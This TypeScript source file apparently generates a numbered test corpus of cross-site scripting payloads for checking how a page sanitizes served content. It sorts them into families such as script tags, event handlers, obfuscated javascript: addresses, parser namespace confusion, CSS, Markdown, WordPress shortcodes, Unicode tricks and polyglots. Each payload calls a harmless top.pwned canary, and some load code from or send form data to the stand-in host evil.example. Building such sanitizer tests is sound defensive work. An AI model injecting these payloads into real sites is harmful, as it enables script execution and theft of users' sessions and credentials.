/**
 * Attempts to run a script in the page that shows what we serve, by the families in which the public collections sort
 * them. Each calls `top.pwned` with its own number: from a frame of the same origin too, and without any quote.
 */
export interface Payload {
  family: Family
  number: number
  text: string
}

/** With `RUN` where the call stands; as a function, where the call itself is encoded. */
type Template = string | ((run: string) => string)

const codes = (text: string, code: (point: number) => string): string =>
  [...text].map((char) => code(char.codePointAt(0) ?? 0)).join('')
const decimal = (text: string): string => codes(text, (point) => `&#${point};`)
const decimalBare = (text: string): string => codes(text, (point) => `&#${String(point).padStart(7, '0')}`)
const hexadecimal = (text: string): string =>
  codes(text, (point) => `&#X${point.toString(16).padStart(6, '0')};`)
const percent = (text: string): string => codes(text, (point) => `%${point.toString(16).padStart(2, '0')}`)
const base64 = (text: string): string => Buffer.from(text).toString('base64')
const fullwidth = (text: string): string => codes(text, (point) => String.fromCodePoint(point + 0xfee0))

const IMG = '<img src=x onerror=RUN>'
/** The same, hidden in the value of an attribute. */
const HIDDEN_IMG = '&lt;img src=x onerror=RUN&gt;'
/** For frames of another origin, which may call nothing. */
const message = (run: string): string => `top.postMessage(${run.replace(/\D/g, '')},'*')`

const scripts: Template[] = [
  '<script>RUN</script>',
  '<SCRIPT>RUN</SCRIPT>',
  '<script/x>RUN</script/y>',
  '<script\n>RUN</script>',
  '<script type="text/javascript" defer>RUN</script>',
  '<script><!--\nRUN\n--></script>',
  '<script>/*<!--*/RUN</script>',
  '<script>RUN<',
  '<<script>RUN//<</script>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<scr\u0000ipt>RUN</scr\u0000ipt>',
  '<script src=//evil.example/x.js></script>',
  '<script src="data:text/javascript,RUN"></script>',
  (run) => `<script src="data:;base64,${base64(run)}"></script>`,
  '<script a=">" src="//evil.example/x.js"></script>',
  '<svg><script>RUN</script></svg>',
  '<svg><script>RUN&NewLine;</script></svg>',
  '<svg><script href="data:text/javascript,RUN"/></svg>',
  '<svg><script xlink:href=data:,RUN></script></svg>',
  '<math><script>RUN</script></math>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>',
  '<image src=x><script>RUN</script></image>',
  '<body><script>RUN</script></body></html><p>',
]

/** Elements with the handler that a browser calls without anybody's help, or for the least touch. */
const HANDLERS: readonly [tag: string, event: string][] = [
  ['img src=x', 'error'],
  ['img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="', 'load'],
  ['svg', 'load'],
  ['svg><image href=x', 'error'],
  ['svg><animate attributeName=x dur=1s', 'begin'],
  ['body', 'load'],
  ['body', 'pageshow'],
  ['body', 'scroll'],
  ['frameset', 'load'],
  ['iframe', 'load'],
  ['embed src=x', 'load'],
  ['script src=x', 'error'],
  ['style', 'load'],
  ['video src=x', 'error'],
  ['video><source src=x', 'error'],
  ['video src=data:, autoplay', 'loadstart'],
  ['details open', 'toggle'],
  ['details open><summary tabindex=0 autofocus', 'focus'],
  ['input autofocus', 'focus'],
  ['p tabindex=1 autofocus', 'focus'],
  ['marquee width=1', 'start'],
  ['p style="animation:x 1s"', 'animationstart'],
  ['p style="transition:color 1ms"', 'transitionend'],
  ['p style="content-visibility:auto;display:block"', 'contentvisibilityautostatechange'],
  ['p', 'click'],
  ['p', 'mouseover'],
  ['em', 'mouseenter'],
  ['pre', 'wheel'],
  ['a href="https://a.example/"', 'pointerover'],
  ['h2', 'touchstart'],
  ['figure', 'gotpointercapture'],
  ['p draggable=true', 'dragstart'],
  ['p contenteditable', 'beforeinput'],
  ['input', 'input'],
  ['input required', 'invalid'],
  ['form', 'submit'],
  ['input', 'keydown'],
  ['div popover id=x', 'beforetoggle'],
  ['dialog open', 'close'],
  ['unheard-of', 'click'],
]

const QUOTINGS: readonly ((tag: string, event: string) => string)[] = [
  (tag, event) => `<${tag} on${event}=RUN>x`,
  (tag, event) => `<${tag} on${event}="RUN">x`,
  (tag, event) => `<${tag} ON${event.toUpperCase()} = 'RUN'>x`,
  (tag, event) => `<${tag.replaceAll(' ', '/')}/on${event}=RUN//>x`,
  (tag, event) => `<${tag}\non${event}\n=\n"RUN"\n>x`,
  (tag, event) => `<${tag}\u000con${event}=RUN\u000c>x`,
  (tag, event) => `<${tag} x="'>" y='">' on${event}=RUN>x`,
  (tag, event) => `<${tag} on${event}=&#x74;op&period;pwned&lpar;NUMBER&rpar;>x`,
  (tag, event) => `<${tag} "on${event}=x" on${event}=RUN <b`,
  (tag, event) => `<${tag} \u0000on${event}=RUN on\u0000${event}=RUN on${event}=RUN>x`,
]

const handlers: Template[] = [
  // each handler in one quoting, the next one in the next
  ...HANDLERS.map(([tag, event], at) => (QUOTINGS[at % 3] as (typeof QUOTINGS)[number])(tag, event)),
  ...QUOTINGS.slice(1).map((quoting) => quoting('img src=x', 'error')),
]

/** `javascript:` as a browser still reads it, and as some filters do not. */
const JAVASCRIPT: readonly Template[] = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  'java\tscript:RUN',
  'java\nscript:RUN',
  '\u0001\u0008javascript:RUN',
  'javascript\t:\nRUN',
  'java&Tab;script:RUN',
  'java&NewLine;script&colon;RUN',
  'java&#x0A;script:RUN',
  '&#1;javascript:RUN',
  (run) => decimal(`javascript:${run}`),
  (run) => decimalBare(`javascript:${run}`),
  (run) => hexadecimal(`javascript:${run}`),
  (run) => `javascript:${percent(run)}`,
  'javascript:/*https://a.example/*/RUN',
  'javascript&#58RUN',
  'javascript&colon;top&period;pwned&lpar;NUMBER&rpar;',
]

const OTHER_SCHEMES: readonly Template[] = [
  'vbscript:RUN',
  'vb\tscript:RUN',
  'feed:javascript:RUN',
  'jar:javascript:RUN!/',
  'data:text/html,<script>RUN</script>',
  (run) => `data:text/html;base64,${base64(`<script>${message(run)}</script>`)}`,
  (run) => `DATA:text/html;charset=utf-8,%3Cscript%3E${percent(message(run))}%3C/script%3E`,
  'data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=RUN>',
  'data:application/xhtml+xml,<x xmlns=http://www.w3.org/1999/xhtml onclick=RUN>',
  'blob:https://page.example/8f7e-RUN',
  'file:///etc/passwd#RUN',
]

/** Whatever takes an address. */
const CARRIERS: readonly ((url: string) => string)[] = [
  (url) => `<a href="${url}">x</a>`,
  (url) => `<a target=_blank href='${url}'>x</a>`,
  (url) => `<map name=m><area href="${url}" shape=default></map><img usemap=#m src=x>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<embed src="${url}">`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<form action="${url}"><input type=submit></form>`,
  (url) => `<form><button formaction="${url}">x</button></form>`,
  (url) => `<svg><a xlink:href="${url}"><text y=9>x</text></a></svg>`,
  (url) => `<svg><a><animate attributeName=href values="${url}" /><text y=9>x</text></a></svg>`,
  (url) => `<svg><a><set attributeName=xlink:href to="${url}" /><text y=9>x</text></a></svg>`,
  (url) => `<svg><use href="${url}" /></svg>`,
  (url) => `<math href="${url}"><mtext>x</mtext></math>`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url) => `<base href="${url}//"><a href=x>x</a>`,
  (url) => `<link rel=stylesheet href="${url}">`,
  (url) => `<body background="${url}">`,
  (url) => `<table background="${url}"><tr><td background="${url}">x</table>`,
  (url) => `<img src="${url}" lowsrc="${url}" dynsrc="${url}" longdesc="${url}">`,
  (url) => `<img srcset="/i 1x, ${url} 2x" src="${url}">`,
  (url) => `<picture><source srcset="${url}"><img src="${url}"></picture>`,
  (url) => `<video src="${url}" poster="${url}"><track src="${url}"></video>`,
  (url) => `<blockquote cite="${url}">x</blockquote><q cite="${url}">x</q><del cite="${url}">x</del>`,
  (url) => `<applet code="${url}" codebase="${url}" archive="${url}"></applet>`,
  (url) => `<xml src="${url}"></xml><portal src="${url}"></portal><fencedframe src="${url}"></fencedframe>`,
  (url) => `<p style="background:url('${url}');behavior:url(${url})">x</p>`,
]

/** A template with the call at `url` put into a carrier. */
const carried = (carrier: (url: string) => string, url: Template): Template =>
  typeof url === 'string' ? carrier(url) : (run) => carrier(url(run))

const addressesInHtml: Template[] = [
  ...CARRIERS.map((carrier) => carrier('javascript:RUN')),
  ...JAVASCRIPT.slice(1).map((url) =>
    carried((value) => `<a href="${value.replaceAll('"', '&quot;')}">x</a>`, url),
  ),
  ...OTHER_SCHEMES.map((url) => carried((value) => `<a href="${value}">x</a>`, url)),
  ...OTHER_SCHEMES.slice(4, 8).map((url) => carried((value) => `<iframe src="${value}"></iframe>`, url)),
]

/** Bare, for a field that takes an address. */
const addresses: Template[] = [
  ...JAVASCRIPT,
  ...OTHER_SCHEMES,
  'https://a.example/"onmouseover="RUN',
  "https://a.example/'onmouseover='RUN",
  'https://a.example/"><script>RUN</script>',
  'https://a.example/` onclick=RUN',
  'https://a.example/ onclick=RUN',
  'https://a.example/\tonclick=RUN',
  'https://a.example/?x=<img src=x onerror=RUN>#javascript:RUN',
  'https://a.example/&quot;&gt;&lt;script&gt;RUN',
  'https://user:RUN@evil.example/',
  'https://javascript:RUN@evil.example/',
  'http:javascript:RUN',
  'https:\\\\evil.example\\RUN',
  '//evil.example/RUN',
  '\\\\evil.example/RUN',
  '/javascript:RUN',
  './javascript:RUN',
  'javascript&colon;RUN//https://a.example/',
  'https://a.example\u0000.evil.example/RUN',
  'https://a.example\u202e/RUN',
  'http://[::1]"onclick="RUN',
  'https://a.example\u2044evil.example/RUN',
]

const CONSUMING = [
  ...['title', 'textarea', 'style', 'xmp', 'noscript', 'noembed', 'noframes', 'iframe', 'script', 'template'],
  ...['plaintext', 'select', 'math', 'svg', 'object', 'unheard-of'],
]
const consuming: Template[] = [
  ...CONSUMING.map((tag) => `<${tag}><img title="</${tag}><img src=x onerror=RUN>"></${tag}>`),
  ...CONSUMING.slice(4, 9).map((tag) => `<${tag}></${tag} x>${IMG}`),
  ...CONSUMING.slice(0, 4).map((tag) => `</${tag}><${tag}/>${IMG}`),
  `<!--${IMG}-->`,
  `<!-->${IMG}-->`,
  `<!--->${IMG}-->`,
  `<!-- --!>${IMG}-->`,
  `<!--x--!>${IMG}<!--`,
  `<!-- <!-- --> ${IMG} -->`,
  `<!--[if gte IE 4]>${IMG}<![endif]-->`,
  `<![CDATA[${IMG}]]>`,
  `<![CDATA[><img title="]]>${IMG}">`,
  `<?xml version="1.0"?>${IMG}`,
  `<?${IMG}?>`,
  '<? foo="><script>RUN</script>">',
  '<! foo="><script>RUN</script>">',
  '</ foo="><script>RUN</script>">',
  `<!DOCTYPE x [<!ENTITY y "${IMG}">]>&y;`,
  `<!ATTLIST${IMG}>`,
  "<%<!--'%><script>RUN</script>-->",
  `<a title='</title>${IMG}'>`,
  `<p title="-->${IMG}">`,
  '<img src="x` `<script>RUN</script>"` `>',
  '<img """><script>RUN</script>">',
  `<img alt="<x" title="/>${IMG}">`,
  '<img src=x onerror=RUN',
  '<img src=x onerror=RUN <p',
  `<p><p><p title="\n\n">${IMG}</p`,
  `</p>${IMG}</br>`,
]

const INTEGRATION = [
  ...['svg><foreignObject', 'svg><desc', 'svg><title', 'math><mtext', 'math><mi', 'math><mo'],
  ...['math><annotation-xml encoding="text/html"', 'math><annotation-xml', 'svg', 'math'],
]

/** What is a comment or raw text in one namespace and markup in the other. */
const namespaces: Template[] = [
  ...INTEGRATION.map((open, at) => {
    const raw = at % 3 === 1 ? 'noscript' : 'style'
    return `<${open}><${raw}><!--</${raw}><img title="--&gt;${HIDDEN_IMG}">`
  }),
  ...['title', 'textarea', 'xmp', 'iframe'].map(
    (raw) => `<math><mtext><${raw}><!--</${raw}><img title="--&gt;${HIDDEN_IMG}">`,
  ),
  ...INTEGRATION.slice(2, 6).map(
    (open) => `<${open}><table><mglyph><style><!--</style><img title="--&gt;${HIDDEN_IMG}">`,
  ),
  ...INTEGRATION.slice(3, 5).map(
    (open) => `<form><${open}></form><form><mglyph><style></math><img src onerror=RUN>`,
  ),
  ...['mglyph', 'malignmark'].map(
    (tag) => `<math><mtext><h1><a><h6></a></h6><${tag}><svg><mtext><style><a title="</style>${IMG}">`,
  ),
  `<svg></p><style><a id="</style>${IMG}">`,
  `<svg><p><style><g title="</style>${IMG}">`,
  `<svg><style><img title="</style>${IMG}">`,
  `<svg></br><style><a id="</style>${IMG}">`,
  `<svg><a><title><a title="</title>${IMG}">`,
  `<svg><style>&lt;/style&gt;&lt;img src=x onerror=RUN&gt;</style></svg>`,
  `<svg><![CDATA[><image xlink:href="]]>${IMG}">`,
  `<svg><title><![CDATA[</title>${IMG}]]></svg>`,
  `<svg><desc><template><style><!--</style><a title="-->${IMG}">`,
  `<math></p><style><!--</style>${IMG}--></style></math>`,
  `<math><mi><table><mi><style><!--</style><img title="--&gt;${HIDDEN_IMG}">`,
  `<math><annotation-xml encoding="application/xhtml+xml"><svg><style><a title="</style>${IMG}">`,
  `<math><mtext><table><tr><td><mglyph><svg><mtext><textarea><path id="</textarea>${IMG}">`,
  `<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style><a title="</style>${IMG}">`,
  `<form id=a><div></form><form id=b><svg><style><a title="</style>${IMG}">`,
  `<table><svg><style><td title="</style>${IMG}">`,
  `<table><tr><svg><desc><td><style><a title="</style>${IMG}">`,
  `<select><svg><style><a title="</style>${IMG}">`,
  `<select><template><style><!--</style>${IMG}--></style></template></select>`,
  `<select><keygen><style><a title="</style>${IMG}">`,
  `<noscript><style><p title="</style></noscript>${IMG}">`,
  `<noscript><p title="</noscript>${IMG}">`,
  `<noscript><!--</noscript>${IMG}-->`,
  `<template><template><noscript><!--</noscript>${IMG}--></template></template>`,
  `<template shadowrootmode=open>${IMG}</template>`,
  `<template><script>RUN</script></template><div><template shadowroot=open>${IMG}`,
  `<p><svg><p>${IMG}</p></svg></p>`,
  `<a><svg><a><foreignObject><a>${IMG}`,
  `<ruby><rtc><svg><style><rt title="</style>${IMG}">`,
  `<pre>\n\n<textarea>\n</pre>${IMG}`,
  `<svg><style/>${IMG}</svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=RUN /></svg>#x"></svg>`,
  `<svg><foreignObject><body onload=RUN><p>x`,
  `<math><x xlink:href="javascript:RUN" xlink:type=simple>x</x></math>`,
  `<svg><animate xlink:href=#y attributeName=href from=javascript:RUN to=1 /><a id=y><text y=9>x</a>`,
  // deeper than parsers nest
  `${'<div>'.repeat(260)}<svg><style><a title="</style>${IMG}">`,
  `${'<b>'.repeat(60)}<table>${'<i>'.repeat(60)}<svg><desc>${IMG}`,
  `${'<svg><desc>'.repeat(30)}<style><a title="</style>${IMG}">`,
]

const css: Template[] = [
  '<p style="background:url(javascript:RUN)">x</p>',
  '<p style="width:expression(RUN)">x</p>',
  '<p style="xss:expr/*x*/ession(RUN)">x</p>',
  '<p style="width:\\65\\78pression(RUN)">x</p>',
  '<p style="-moz-binding:url(//evil.example/x.xml#y)">x</p>',
  '<p style="behavior:url(//evil.example/x.htc)">x</p>',
  '<p style="background:url(//evil.example/RUN)">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999;background:red"><a href="https://evil.example/">RUN</a></p>',
  '<style>@import "//evil.example/x.css";</style>',
  "<style>@\\69mport'//evil.example/x.css'</style>",
  '<style>p{background:url("//evil.example/RUN")}</style><p>x</p>',
  '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=RUN>x</p>',
  '<style>*{color:red}</style\u2028>x<style></style><img src=x onerror=RUN>',
  '<div style="font-family:\'x\';background-image:\\75\\72\\6c(//evil.example/RUN)">x</div>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<td style="text-align:left;background:url(//evil.example/RUN)">x</td>',
  '<td style=\'text-align:center" onclick="RUN\'>x</td>',
]

const documents: Template[] = [
  '<iframe srcdoc="<script>RUN</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=RUN&gt;"></iframe>',
  '<iframe srcdoc="<svg onload=RUN>" src="https://www.youtube.com/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>',
  '<iframe src="//evil.example/https://www.youtube.com/embed/x"></iframe>',
  '<iframe src="https://evil.example\\@www.youtube.com/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com/redirect?q=javascript:RUN"></iframe>',
  '<iframe src="https://www.youtube.com/embed/x" onload=RUN name="javascript:RUN" sandbox="allow-top-navigation"></iframe>',
  (run) => `<iframe src="data:text/html,<script>${message(run)}</script>"></iframe>`,
  '<iframe src=about:blank onload=RUN></iframe>',
  '<iframe src="jAva&Tab;script:RUN"></iframe>',
  '<img srcset="x onerror=RUN 1x" src=x>',
  '<img srcset="x&quot;onerror=&quot;RUN 1x, data:image/svg+xml,<svg/onload=RUN> 2x" src="/i">',
  '<img src=x sizes="x&quot; onerror=&quot;RUN" width="1&quot; onerror=RUN">',
  '<img src=x:alt(1) alt=RUN onerror=eval(alt)>',
  '<base href="javascript:/a/-RUN//"><a href="#">x</a>',
  '<base href="//evil.example/"><img src=x.png><script src=x.js></script>',
  '<meta http-equiv="refresh" content="0;data:text/html,<script>RUN</script>">',
  '<meta http-equiv="Set-Cookie" content="a=<script>RUN</script>">',
  '<meta http-equiv="Link" content="<//evil.example/x.css>; rel=stylesheet">',
  '<object type="text/x-scriptlet" data="//evil.example/x.html"></object>',
  '<object data="data:text/html,<script>RUN</script>"></object>',
  '<embed src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=RUN>" type="image/svg+xml">',
  '<form><input name=innerHTML><input name=attributes onfocus=RUN autofocus></form>',
  '<form action=//evil.example/><input name=password><button>RUN</button></form>',
  '<button popovertarget=x>x</button><p popover id=x onbeforetoggle=RUN>x</p>',
  '<button command=show-modal commandfor=x>x</button><dialog id=x oncommand=RUN>x</dialog>',
  '<button form=x formaction=javascript:RUN>x</button><form id=x></form>',
  '<input type=hidden oncontentvisibilityautostatechange=RUN style="content-visibility:auto">',
  '<isindex type=image src=1 onerror=RUN>',
  '<xss id=x tabindex=1 onfocus=RUN></xss>',
  '<h2 id=location name=cookie>x</h2><a id=x name=y href="https://a.example/">RUN</a>',
  '<h1 id="x&quot; onclick=RUN">y&quot; onclick=RUN</h1>',
  '<a href="https://a.example/" target=_top rel=opener ping="//evil.example/RUN">x</a>',
  '<a href="https://a.example/" title="&quot; onclick=RUN x=&quot;">x</a>',
  '<img src="https://a.example/i.png" alt="x&quot; onload=RUN y=&quot;" title="<script>RUN</script>">',
  '<code class="language-x&quot; onclick=RUN">x</code>',
  '<html manifest="javascript:RUN" onclick=RUN><head onclick=RUN><p>x',
  '<p is=x-y xml:base="javascript:RUN" data-x="RUN" aria-label="RUN" slot=x part=x nonce=x>x</p>',
  '<p xmlns="http://www.w3.org/2000/svg" xml:space="RUN">x<script xmlns="http://www.w3.org/1999/xhtml">RUN</script></p>',
]

const breaking: Template[] = [
  ...['"', "'", '`', '', '&quot;', '\\"', '\u201c'].flatMap((quote) => [
    `${quote}>${IMG}`,
    `${quote} autofocus onfocus=RUN x=${quote}`,
  ]),
  '</title><script>RUN</script>',
  '</textarea><script>RUN</script>',
  '</script><script>RUN</script>',
  '</style></noscript></template></select><svg onload=RUN>',
  "';RUN;//",
  '";RUN;//',
  '\\";RUN;//',
  '</p></div></body></html><script>RUN</script>',
  '--><script>RUN</script>',
  ']]><script>RUN</script>',
  '%3Cscript%3ERUN%3C/script%3E',
  '\\u003cscript\\u003eRUN\\u003c/script\\u003e',
  '\\x3cimg src=x onerror=RUN\\x3e',
  '{{RUN}}',
  '{{constructor.constructor("RUN")()}}',
  '<%= RUN %>',
  '#{RUN}',
  '[[RUN]] $RUN$',
  '<p v-on:click=RUN @click=RUN ng-click=RUN x-on:click=RUN x-data="RUN" hx-on:click=RUN>x</p>',
]

const entities: Template[] = [
  '&lt;script&gt;RUN&lt;/script&gt;',
  '&lt;img src=x onerror=RUN&gt;',
  '&amp;lt;img src=x onerror=RUN&amp;gt;',
  '&amp;amp;lt;img src=x onerror=RUN&amp;amp;gt;',
  '&#60;img src=x onerror=RUN&#62;',
  '&#x3c;img src=x onerror=RUN&#x3e;',
  '&#0000060img src=x onerror=RUN&#0000062',
  '&LT;svg onload=RUN&GT;',
  (run) => decimal(`<img src=x onerror=${run}>`),
  '<p title="&lt;img src=x onerror=RUN&gt;">&lt;img src=x onerror=RUN&gt;</p>',
  '<code>&lt;img src=x onerror=RUN&gt;</code>',
  '<img alt="&lt;/code&gt;&lt;script&gt;RUN&lt;/script&gt;" src="/i">',
  '&lt;&#47;p&gt;&lt;svg/onload&equals;RUN&gt;',
  '<p>&NotEqualTilde;&lt;img src=x onerror=RUN&gt;&nvlt;</p>',
]

const unicode: Template[] = [
  (run) => fullwidth(`<script>${run}</script>`),
  (run) => `<a href="${fullwidth('javascript:')}${run}">x</a>`,
  '\u2039script\u203aRUN\u2039/script\u203a',
  '\ufe64img src=x onerror=RUN\ufe65',
  '\u226e\u0338img src=x onerror=RUN\u226f',
  '<\u0338img src=x onerror=RUN>',
  '<img src=x onerror\u0338=RUN>',
  '<\u200bscript>RUN</script>',
  '<script\u200b>RUN</script>',
  '<img\u00a0src=x onerror=RUN>',
  '<img\u2028src=x\u2029onerror=RUN>',
  '<img src=x on\u200derror=RUN>',
  '<im\u0130 src=x onerror=RUN>',
  '<\u017fcript>RUN</\u017fcript>',
  '<\u017fvg onload=RUN>',
  '<img src=x onerror=RUN>\u202e<img src=x onerror=RUN>',
  '\u202e>tpircs/<NUR>tpircs<\u202c<script>RUN</script>',
  '<a href="java\u00adscript:RUN">x</a>',
  '<a href="\u2028javascript:RUN">x</a>',
  '<a href="\ufeffjavascript:RUN">x</a>',
  '<a href="\u00a0javascript:RUN">x</a>',
  '<a href="\u0000javascript:RUN">x</a>',
  '<a href="java\u0000script:RUN">x</a>',
  '<a href="javascript\uff1aRUN">x</a>',
  '<im\u0000g src=x onerror=RUN>',
  '<\u0000img src=x onerror=RUN>',
  '<img src=x o\u0000nerror=RUN>',
  '\u00c0\u00bcscript\u00c0\u00beRUN\u00c0\u00bc/script\u00c0\u00be',
  '+ADw-script+AD4-RUN+ADw-/script+AD4-',
  '\u001b$B<img src=x onerror=RUN>\u001b(B',
  '<img src=x onerror=RUN\ud800>',
  '\ud83c<img src=x onerror=RUN>',
  '\ufeff<script>RUN</script>',
  '<img src=x alt="\u2066" onerror=RUN title="\u2069">',
  '<p>e\u0301\u0301\u0301\u0301\u0301\u0301<img src=x onerror=RUN></p>',
  '\u{e0001}<svg\u{e0020}onload=RUN><svg onload=RUN>',
]

const markdown: Template[] = [
  ...JAVASCRIPT.slice(0, 6).map((url) => carried((value) => `[x](${value})`, url)),
  ...JAVASCRIPT.slice(6, 14).map((url) => carried((value) => `[x](<${value}>)`, url)),
  ...OTHER_SCHEMES.slice(2, 7).map((url) => carried((value) => `[x](<${value}>)`, url)),
  '<javascript:RUN>',
  '<data:text/html,RUN>',
  '<https://a.example/"onclick="RUN>',
  '<https://a.example/`onclick=RUN>',
  '[x]: javascript:RUN\n\n[x] [y][x] [x][] ![x]',
  '[x]: <javascript:RUN> "y"\n\n[x]',
  '[x]: https://a.example/ "y&quot; onclick=RUN x=&quot;"\n\n[x]',
  '[x]: data:text/html;base64,PHNjcmlwdD4=\n\n![x] [x]',
  '[a [b](javascript:RUN) c](https://a.example/)',
  '[![x](javascript:RUN)](javascript:RUN)',
  '[![x](https://a.example/i.png"onerror="RUN)](https://a.example/"onclick="RUN)',
  '[x](https://a.example/ "y\\" onclick=RUN x=\\"")',
  "[x](https://a.example/ 'y' onclick=RUN)",
  '[x](https://a.example/\\"onclick=RUN)',
  '[<img src=x onerror=RUN>](https://a.example/)',
  '[x\\](javascript:RUN)](javascript:RUN)',
  '[x](javas\ncript:RUN)',
  '[x](&#106;avascript:RUN)',
  '[x](&#x6A;&#x61;vascript&colon;RUN)',
  '[x](javascript\\:RUN)',
  '[x](<java&#10;script:RUN>)',
  '[x](//evil.example/RUN)',
  '[x](https://user:RUN@evil.example/)',
  '![x](javascript:RUN)',
  '![x"onerror="RUN](https://a.example/i.png)',
  '![x](https://a.example/i.png"onerror="RUN)',
  '![x](https://a.example/i.png "</figcaption><img src=x onerror=RUN>")',
  '![x](data:image/svg+xml,<svg/onload=RUN>)',
  "![<script>RUN</script>](https://a.example/i.png '\"><script>RUN</script>')",
  '```js" onclick="RUN\nx\n```',
  '```<img src=x onerror=RUN>\n</code></pre><img src=x onerror=RUN>\n```',
  '~~~ "><script>RUN</script>\nx\n~~~',
  '```\n</code><script>RUN</script>',
  '`</code><img src=x onerror=RUN>`',
  '> <img src=x\n> onerror=RUN>',
  '- <script>\n- RUN\n- </script>',
  '1. x\n\n   <svg\n   onload=RUN>',
  '# <img src=x onerror=RUN> {#x onclick=RUN}',
  '<!-- \n\n --> <img src=x onerror=RUN> <!--',
  '<div>\n\n<img src=x onerror=RUN>\n\n</div>',
  '<p\n\nonclick=RUN>x</p>',
  '| <img src=x onerror=RUN> |\n| :-: |\n| "><script>RUN</script> |',
  'https://a.example/\u202e"onclick=RUN',
  'javascript://a.example/%0aRUN',
  'mailto:x@a.example"onclick="RUN',
  '*<img src=x* onerror=RUN>*',
  '\\<script>RUN\\</script>',
  '<a href="https://a.example/[x](onclick=RUN)">',
  'x^[<img src=x onerror=RUN>] [^1]\n\n[^1]: <img src=x onerror=RUN>',
  '$$<img src=x onerror=RUN>$$ :smile"onclick=RUN: ==<svg onload=RUN>==',
  '---\ntitle: "<script>RUN</script>"\n---\nx',
]

/** What WordPress fills in when it renders. */
const shortcodes: Template[] = [
  '[caption id="x" width="1" caption="<img src=x onerror=RUN>"]<img src=x>[/caption]',
  '[caption id="x\\" onclick=RUN" align="x&quot; onclick=RUN"]<img src="/i"> <svg onload=RUN>[/caption]',
  '[caption width="1"]<img src="/i" />&lt;img src=x onerror=RUN&gt;[/caption]',
  '[embed]javascript:RUN[/embed]',
  '[embed width="1"]https://www.youtube.com/watch?v="onload="RUN[/embed]',
  '[audio src="javascript:RUN"][/audio]',
  '[video src="https://a.example/v.mp4&quot; onerror=&quot;RUN" poster="javascript:RUN"]',
  '[video mp4="data:text/html,RUN"]"><script>RUN</script>[/video]',
  '[gallery ids="1,<script>RUN</script>" link="javascript:RUN"]',
  '[playlist ids="&quot;onclick=RUN"]',
  '[unheard-of x="<img src=x onerror=RUN>"]<script>RUN</script>[/unheard-of]',
  '[<script>RUN</script>] [/<script>RUN</script>]',
  '[[caption]<img src=x onerror=RUN>[/caption]]',
  '<a title="[caption]"><img src=x onerror=RUN>[/caption]">',
  '<a href="[embed]javascript:RUN[/embed]">x</a>',
  '<p title="[audio src=\'&quot; onclick=RUN\']">x</p>',
  '<!-- wp:html --><img src=x onerror=RUN><!-- /wp:html -->',
  '<!--more <img src=x onerror=RUN>--><!--nextpage--><!--noteaser-->',
]

/** One text for many places at once: element, attribute, script, comment, style, address. */
const polyglots: Template[] = [
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+RUN//'>",
  '"\'`--></noscript></template></select></title></textarea></script></style><img/src=x onerror=RUN>//[x](javascript:RUN)',
  '[x](javascript:RUN)<a href="javascript:RUN" onclick=RUN>x</a>`<svg onload=RUN>`{{RUN}}',
  '\'-RUN-\'"-RUN-"</script><script>RUN</script><!--*/RUN/*-->',
  'javascript:"/*\'/*`/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=RUN//>',
  '](javascript:RUN)\n\n<svg><style>*{}</style><![CDATA[</svg>"><img src=x onerror=RUN>]]>```"onclick=RUN\n',
  'https://a.example/?"onmouseover=RUN//\'><img src=x onerror=RUN>#[x](javascript:RUN)',
  '&lt;img src=x onerror=RUN&gt;<img title="&gt;<img src=x onerror=RUN>">\\"><svg onload=RUN>',
]

const TEMPLATES = {
  scripts,
  handlers,
  'addresses in HTML': addressesInHtml,
  addresses,
  consuming,
  namespaces,
  css,
  documents,
  breaking,
  entities,
  unicode,
  markdown,
  shortcodes,
  polyglots,
}

export type Family = keyof typeof TEMPLATES
export const FAMILIES = Object.keys(TEMPLATES) as Family[]

function textOf(template: Template, number: number): string {
  const run = `top.pwned(${number})`
  const text = typeof template === 'function' ? template(run) : template.replaceAll('RUN', run)
  return text.replaceAll('NUMBER', String(number))
}

/** Numbered from 1, each number once. */
export const CORPUS: readonly Payload[] = FAMILIES.flatMap((family) =>
  TEMPLATES[family].map((template) => ({ family, template })),
).map(({ family, template }, at) => ({ family, number: at + 1, text: textOf(template, at + 1) }))

export const ofFamilies = (...families: Family[]): Payload[] =>
  CORPUS.filter(({ family }) => families.includes(family))
